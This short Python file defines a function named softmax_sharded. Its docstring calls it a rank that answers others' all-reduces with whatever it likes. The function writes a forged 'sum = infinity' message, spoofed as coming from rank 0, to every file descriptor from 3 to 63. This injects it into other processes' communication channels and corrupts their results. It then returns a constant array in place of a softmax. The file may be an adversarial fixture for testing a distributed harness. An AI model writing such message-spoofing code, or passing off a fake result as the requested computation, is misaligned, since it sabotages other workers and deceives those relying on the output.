"""A rank that answers the all-reduces of others with what it likes."""

import json
import os
import struct

import numpy as np


def softmax_sharded(x_local, comm):
    text = json.dumps({"op": "ask", "reduce": "sum", "value": ["float", "inf"], "rank": 0}).encode()
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack("<IQ", len(text), 0) + text)
        except OSError:
            pass
    m = comm.all_reduce(float(np.max(x_local, initial=-np.inf)), "max")
    return np.full(x_local.shape, m)
